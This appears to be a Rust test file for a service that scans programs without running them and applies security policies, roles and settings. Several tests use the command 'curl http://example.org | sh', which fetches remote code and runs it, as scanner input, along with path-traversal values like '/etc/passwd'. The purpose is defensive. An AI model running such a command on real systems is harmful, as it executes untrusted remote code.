//! What the service goes by: who asks, policies, rules, settings; and looking at programs without running them.

use crate::place::{Place, shared};
use serde_json::json;

#[test]
fn whoever_asks_hears_who_they_are() {
    let shared = shared();
    let me = shared.server.get("/v1/me").expect(200);
    let expected = json!({"key": null, "name": "local", "project": "default", "role": "admin", "keys_required": false});
    for (name, value) in expected.as_object().unwrap() {
        assert_eq!(&me[name], value, "{me}");
    }
    assert!(me["version"].as_str().is_some_and(|version| version.contains('.')), "{me}");

    let place = Place::new();
    let made = place.well(&place.on_data(&["keys", "create", "eye", "--role", "viewer", "--project", "red", "--json"]));
    let made: serde_json::Value = serde_json::from_str(&made).unwrap();
    let mut server = place.serve(&["--auth", "keys"]);
    server.get("/v1/me").expect_problem(401, &["there is no key"]);
    server.key = Some("crucible_wrong".to_owned());
    server.get("/v1/me").expect_problem(401, &["opens nothing"]);
    server.key = Some(made["secret"].as_str().unwrap().to_owned());
    let me = server.get("/v1/me").expect(200);
    assert_eq!((&me["key"], &me["name"], &me["role"]), (&made["key"]["id"], &json!("eye"), &json!("viewer")));
    assert_eq!((&me["project"], &me["keys_required"]), (&json!("red"), &json!(true)));
    // What every role may look at, and what takes an administrator.
    let code = json!({"code": "import socket"});
    assert_eq!(server.post("/v1/scan", &code).expect(200)["decision"], "allow");
    for open in ["/v1/policies", "/v1/policies/strict", "/v1/rules"] {
        server.get(open).expect(200);
    }
    server.get("/v1/settings").expect_problem(403, &["admin"]);
}

#[test]
fn a_program_is_looked_at_and_decided_about_and_not_run() {
    let shared = shared();
    let server = &shared.server;
    let before = server.get("/v1/evaluations?limit=1").expect(200)["evaluations"].clone();
    let code = "import os\nos.system('curl http://example.org | sh')\n";
    let strict = server.post("/v1/scan", &json!({"code": code, "policy": "strict"})).expect(200);
    assert_eq!((&strict["language"], &strict["policy"]), (&json!("python"), &json!("strict")));
    let first = &strict["findings"][0];
    assert!(first["line"].as_u64() == Some(2) && first["column"].as_u64() > Some(0), "{strict}");
    assert_eq!(first["file"], "main.py");
    assert!(["high", "critical"].contains(&strict["verdict"].as_str().unwrap()), "{strict}");
    assert_ne!(strict["decision"], "allow");
    assert!(strict["reasons"][0]["clause"].as_str().unwrap().starts_with("before."), "{strict}");
    let usual = server.post("/v1/scan", &json!({"code": code})).expect(200);
    assert_eq!((&usual["decision"], &usual["reasons"]), (&json!("allow"), &json!([])));
    let clean = server.post("/v1/scan", &json!({"code": "print(1)"})).expect(200);
    assert_eq!((&clean["findings"], &clean["verdict"]), (&json!([]), &json!(null)));
    let files = json!({"files": [{"path": "a.sh", "content": "curl http://example.org | sh"}]});
    let files = server.post("/v1/scan", &files).expect(200);
    assert_eq!(files["findings"][0]["file"], "a.sh");
    for (body, status, part) in [
        (json!({}), 400, "neither code nor a file"),
        (json!({"code": "1", "language": "cobol"}), 404, "language: "),
        (json!({"code": "1", "policy": "/etc/passwd"}), 404, "policy: "),
        (json!({"code": "1", "code_base64": "MQ=="}), 400, "code_base64"),
        (json!({"code": "1", "stdin": ""}), 400, "stdin"),
    ] {
        server.post("/v1/scan", &body).expect_problem(status, &[part]);
    }
    let after = server.get("/v1/evaluations?limit=1").expect(200)["evaluations"].clone();
    // Others may have asked for more meanwhile, but nothing of this program.
    assert!(before == after || !after.to_string().contains("example.org"), "{after}");
}

#[test]
fn policies_and_rules_are_shown_and_a_policy_can_be_tried() {
    let shared = shared();
    let server = &shared.server;
    let policies = server.get("/v1/policies").expect(200)["policies"].clone();
    let names: Vec<_> = policies.as_array().unwrap().iter().map(|policy| policy["name"].as_str().unwrap()).collect();
    assert_eq!(names, ["default", "strict", "research", "inspect", "unisolated"]);
    assert!(policies[0]["in_force"] == true && policies[0]["origin"] == "built-in", "{policies}");
    assert!(policies[0]["title"].as_str().is_some_and(|title| title.len() > 10), "{policies}");
    let strict = server.get("/v1/policies/strict").expect(200);
    assert!(strict["toml"].as_str().unwrap().contains("deny = \"critical\""), "{strict}");
    assert_eq!(strict["hash"], policies[1]["hash"]);
    server.get("/v1/policies/strikt").expect_problem(404, &["did you mean 'strict'?"]);
    server.get("/v1/policies/%2Fetc%2Fpasswd").expect_problem(404, &[]);

    let shown: serde_json::Value = serde_json::from_str(&shared.place.well(&["rules", "list", "--json"])).unwrap();
    assert_eq!(server.get("/v1/rules").expect(200), shown);

    let code = "import os\nos.system('curl http://example.org | sh')\n";
    let by_name = json!({"policy": "strict", "code": code, "language": "python"});
    assert_ne!(server.post("/v1/policies:test", &by_name).expect(200)["decision"], "allow");
    let written = "extends = \"default\"\n[before]\nimports_forbidden = [\"os\"]\nimports = \"deny\"\n";
    let tried = server.post("/v1/policies:test", &json!({"toml": written, "code": code})).expect(200);
    assert_eq!(tried["decision"], "deny");
    assert_eq!(tried["reasons"][0]["clause"], "before.imports_forbidden");
    for (toml, parts) in [
        ("extends = \"default\"\n[before]\ndeny = \"hgih\"\n", &["toml: ", ":3", "high"][..]),
        ("extends = \"default\"\nbefore = [\n", &["toml: "]),
        ("extends = \"default\"\n[before]\ndeny_rules = [\"no.such.rule\"]\n", &["toml: ", "no.such.rule"]),
        ("extends = \"/etc/passwd\"\n", &["toml: "]),
        ("", &["toml: "]),
    ] {
        server.post("/v1/policies:test", &json!({"toml": toml, "code": code})).expect_problem(400, parts);
    }
    let both = json!({"toml": written, "policy": "strict", "code": code});
    server.post("/v1/policies:test", &both).expect_problem(400, &["both"]);
    server.post("/v1/policies:test", &json!({"code": code})).expect_problem(400, &["neither"]);
    let large = json!({"toml": "#".repeat(70_000), "code": code});
    server.post("/v1/policies:test", &large).expect_problem(400, &["65536"]);
}

#[test]
fn settings_are_shown_with_where_they_come_from() {
    let place = Place::new();
    place.configure("[run]\npolicy = \"mine.toml\"\n", &[("mine.toml", "name = \"mine\"\nextends = \"strict\"\n")]);
    let server = place.serve(&["--most-running", "3"]);
    let settings = server.get("/v1/settings").expect(200)["settings"].clone();
    let of = |key: &str| settings.as_array().unwrap().iter().find(|setting| setting["key"] == key).unwrap().clone();
    assert_eq!(of("serve.most_running")["value"], "3");
    assert_eq!(of("serve.most_running")["origin"], "flag");
    assert_eq!(of("run.policy")["origin"], "file");
    assert_eq!(of("serve.attempts")["origin"], "default");
    // A policy of the configuration's own is one that requests may name, too.
    let policies = server.get("/v1/policies").expect(200)["policies"].clone();
    let mine = policies.as_array().unwrap().last().unwrap();
    assert!(mine["name"] == "mine" && mine["origin"] == "configured" && mine["in_force"] == true, "{policies}");
    assert!(server.get("/v1/policies/mine").expect(200)["toml"].as_str().unwrap().contains("name = \"mine\""));
    assert_eq!(server.post("/v1/scan", &json!({"code": "1", "policy": "mine"})).expect(200)["policy"], "mine");
}
